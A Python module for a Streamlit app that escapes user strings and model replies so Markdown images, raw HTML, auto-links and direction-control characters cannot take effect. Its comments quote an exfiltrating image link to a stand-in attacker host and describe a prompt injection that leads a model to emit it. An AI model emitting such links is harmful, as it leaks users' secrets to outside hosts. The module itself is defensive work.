"""Making user-supplied strings safe to show through Streamlit's Markdown-rendering calls.

``st.markdown``, ``st.caption``, ``st.warning``/``st.error``/``st.info``, ``st.toast``, widget labels
and model cards render Markdown (with GitHub extensions, Streamlit's ``:red[...]`` directives,
``:material/...:`` icons, emoji shortcodes, ``$`` maths and, with ``unsafe_allow_html``, raw HTML).
A file name such as ``![x](http://evil/a.png).csv`` would otherwise become an image fetched from
another host. :func:`plain_markdown` turns any string into Markdown source that renders as exactly
that text (give or take invisible zero-width spaces that break auto-linking and shortcodes,
and the invisible direction controls that would reorder the page's own words around it).

Call it on the user-supplied part, or on a whole message that quotes user input, just before it
goes into a Markdown-rendering call; never on text shown by ``st.text``, ``st.code`` or a table.

Plotly draws titles, axis labels, hover text and point labels from its own HTML subset (``<b>``,
``<a href>``, ``<span style>``, ``<br>``): :func:`plotly_text` makes a user-supplied string show as
typed there.

A model's reply keeps its Markdown, minus images and raw HTML: :func:`reply_markdown`, used by
every place that renders a reply as Markdown.
"""

from __future__ import annotations

import html
import re

# CommonMark lets any ASCII punctuation be backslash-escaped. These start inline constructs
# (emphasis, code, links, images, autolinks, HTML, table cells, strikethrough, maths) wherever they
# stand, so they are escaped everywhere. "(", ")", "!", "." and "-" are harmless without a "[" or
# a line start, and escaping them would clutter every message.
_INLINE_SPECIALS = frozenset("\\`*[]<>|~$")
# "_" emphasises only at a word's edge (CommonMark's flanking rules): LSM_MODELS_DIR stays as is.
_EDGE_UNDERSCORE = re.compile(r"(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])")
# "&" starts an entity reference (&lt; &#60;) only when a name or "#" follows.
_ENTITY_START = re.compile(r"&(?=[A-Za-z#])")
# At the start of a line, "- x", "+ x", "1. x", "1) x", "---", "===" and "# x" start lists,
# breaks or headings; ">" and "*" are escaped everywhere already.
_BLOCK_START = re.compile(r"\d{1,9}[.)](?=\s|$)|[-+=](?=[\s\-+=]|$)|#")
# Text-level rewrites that run after escapes are decoded (GFM's literal autolinks, Streamlit's
# material icons and emoji shortcodes) match "scheme:", "www.", "x@y" and ":name:"; a zero-width
# space after the colon, "www" or "@" keeps the text visible but stops the match.
_ZERO_WIDTH_SPACE = "\u200b"
_BREAK_AFTER = re.compile(r"(?i)(:|@|\bwww)(?=[\w./])")
# Line breaks would start new blocks; other control characters have no business in a message.
_CONTROL = re.compile(r"[\x00-\x1f\x7f\u2028\u2029]+")
# Bidirectional embeddings, overrides and isolates (U+202A-202E, U+2066-2069) reorder what follows
# them, the app's own words included, until the paragraph ends: "report\u202efdp.exe" shows as
# "reportexe.pdf". Right-to-left text needs none of them to show right; they are dropped.
_BIDI_CONTROL = re.compile("[\u202a-\u202e\u2066-\u2069]")
_NO_BREAK_SPACE = "\u00a0"


def _escape_inline(text: str) -> str:
    escaped = "".join("\\" + char if char in _INLINE_SPECIALS else char for char in text)
    escaped = _ENTITY_START.sub(r"\\&", escaped)
    return _EDGE_UNDERSCORE.sub(r"\\_", escaped)


def plain_markdown(text: object) -> str:
    """Markdown source that renders ``text`` literally: no links, images, HTML, styling or icons.

    Args:
        text: any value; ``str(text)`` is what is shown.

    Returns:
        The escaped source, on one line. Example: ``plain_markdown("[a](http://x)")`` gives
        ``"\\[a\\](http:\\u200b//x)"``, which Streamlit shows as ``[a](http://x)``.
    """
    flat = _CONTROL.sub(" ", _BIDI_CONTROL.sub("", str(text)))
    flat = _BREAK_AFTER.sub(lambda match: match.group(1) + _ZERO_WIDTH_SPACE, flat)
    escaped = _escape_inline(flat)
    # Four leading spaces make a code block; no-break spaces look the same and never indent.
    stripped = escaped.lstrip(" ")
    lead = _NO_BREAK_SPACE * (len(escaped) - len(stripped))
    block = _BLOCK_START.match(stripped)
    if block:
        stripped = f"{block.group(0)[:-1]}\\{stripped[block.end() - 1 :]}"
    return lead + stripped


def plain_markdown_lines(text: object) -> str:
    """Like :func:`plain_markdown`, keeping the text's line breaks (a chat message, a reply).

    Each line is escaped on its own, so none can start a heading, list, quote or code block, and the
    lines are joined with Markdown hard breaks ("two spaces, newline"); an empty line still
    separates paragraphs.
    """
    lines = str(text).replace("\r\n", "\n").replace("\r", "\n").split("\n")
    return "  \n".join(plain_markdown(line) for line in lines)


def plotly_text(text: object) -> str:
    """Text for a plotly title, label or hover text that shows ``text`` as typed: no tags, no links.

    Example: ``plotly_text("<a href='http://x'>y</a>")`` gives ``"&lt;a href='http://x'&gt;y&lt;/a&gt;"``,
    which plotly shows literally.
    """
    return html.escape(_BIDI_CONTROL.sub("", str(text)), quote=False)


# Model replies keep their Markdown (lists, code, tables, emphasis, links), but a prompt can make a
# model write "![](http://attacker/?q=secret)", which the browser would fetch on its own
# (exfiltration), or raw HTML. Outside fenced code, every "<" and every "!" before "[" is made
# inert. In prose they become character references, which CommonMark never reads as structure:
# "&#33;[a](u)" shows "!" and a link (fetched only on a click), "&lt;img ...>" shows as text, and
# a backslash the model put before them escapes only the "&". Inside what looks like an inline
# code span, where a reference would show literally, an invisible word joiner goes after them
# instead, which stops an image or a tag just the same: so guessing a span wrong (the parser pairs
# backticks across lines, inside table cells and link destinations) can only show a reference,
# never let an image through. Fenced code is kept as written, and only a fence that is surely
# one (closed, or open to the end, with no table row or less indented line that could end it).
_FENCE_OPEN = re.compile(r"( {0,3})(`{3,}(?=[^`|]*$)|~{3,}(?=[^|]*$))")
# A line that may open a fence: a table row can look like one ("~~~ | a |"), so any "|" makes it unsure.
_FENCE_LIKE = re.compile(r" {0,3}(`{3}|~{3})")
_CODE_SPAN = re.compile(r"(?<![`\\])(`+)(?!`)([^\n]*?[^`\n])\1(?!`)")
_IMAGE_OR_HTML = re.compile(r"!(?=\[)|<")
_REFERENCES = {"!": "&#33;", "<": "&lt;"}
_WORD_JOINER = "\u2060"


def _neutralise_prose(text: str) -> str:
    pieces: list[str] = []
    start = 0
    for span in _CODE_SPAN.finditer(text):
        pieces.append(_IMAGE_OR_HTML.sub(lambda match: _REFERENCES[match.group()], text[start : span.start()]))
        pieces.append(_IMAGE_OR_HTML.sub(lambda match: match.group() + _WORD_JOINER, span.group()))
        start = span.end()
    pieces.append(_IMAGE_OR_HTML.sub(lambda match: _REFERENCES[match.group()], text[start:]))
    return "".join(pieces)


def _fence_end(lines: list[str], opening: int) -> int | None:
    """The index of the fence's last line (its closing line, or the reply's last line while a
    streamed reply has not closed it yet: CommonMark runs such a fence to the end), or None when
    a line indented less than the fence follows, which would end a list item around it and the
    fence with it."""
    match = _FENCE_OPEN.match(lines[opening])
    assert match is not None
    indent, fence = len(match.group(1)), match.group(2)
    closing = re.compile(rf" {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}[ \t]*$")
    for index in range(opening + 1, len(lines)):
        line = lines[index]
        if closing.match(line):
            return index
        if line.strip() and len(line) - len(line.lstrip(" ")) < indent:
            return None
    return len(lines) - 1


def reply_markdown(text: object) -> str:
    """A model's reply as Markdown that keeps its formatting but shows no image and no raw HTML.

    Use it wherever a model's reply is rendered as Markdown (``st.markdown``), streamed or kept.

    Example: ``reply_markdown("**Hi** ![](http://x/?q=1) <img src=y>")`` gives
    ``"**Hi** &#33;[](http://x/?q=1) &lt;img src=y>"``: bold text, a "!", a link and the tag as text.
    """
    lines = str(text).replace("\r\n", "\n").replace("\r", "\n").split("\n")
    shown: list[str] = []
    prose_start = index = 0
    while index < len(lines):
        if not _FENCE_LIKE.match(lines[index]):
            index += 1
            continue
        end = _fence_end(lines, index) if _FENCE_OPEN.match(lines[index]) else None
        if end is None:
            # A parser might still read this line as a fence, and a later one as its closing line
            # rather than an opening: from here on nothing is taken for fenced code.
            break
        if prose_start < index:
            shown.append(_neutralise_prose("\n".join(lines[prose_start:index])))
        shown.append("\n".join(lines[index : end + 1]))
        prose_start = index = end + 1
    if prose_start < len(lines):
        shown.append(_neutralise_prose("\n".join(lines[prose_start:])))
    return "\n".join(shown)
